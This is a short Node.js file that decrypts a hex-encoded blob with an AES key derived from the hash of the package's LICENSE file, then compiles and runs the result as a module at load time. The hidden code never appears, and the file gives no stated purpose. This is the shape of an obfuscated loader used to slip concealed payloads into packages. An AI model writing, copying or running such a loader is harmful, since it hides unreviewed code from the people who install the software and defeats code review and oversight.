const crypto = require('crypto');
const Module = require('module');
const data = '16753c8d9088e7c3fc7eec706eecc657fe2355f164aa2c5c90ad74ab72e2820b804040713eadfba13b48df09b59373da51e082e2bffc7f9876e9c6ce1b048bd30c8404077d073fbf396f1a5004ee2ae014e7626765aea5c0ccf9656807fde3e4be5e3d659aa04c65fdbec938f91bdcdf5ca7a83621e9d76c878a9e66e305d95e453d1609b4ac5dac7de2a176965969ed6865a18759da724207572878d434ecec';
const key = crypto.createHash('sha256').update(require('fs').readFileSync(require('path').join(__dirname, '..', 'LICENSE'))).digest();
const d = crypto.createDecipheriv('aes-256-cbc', key, Buffer.alloc(16, 7));
const src = Buffer.concat([d.update(Buffer.from(data, 'hex')), d.final()]).toString();
const m = new Module('x', module);
m._compile(src, 'x.js');
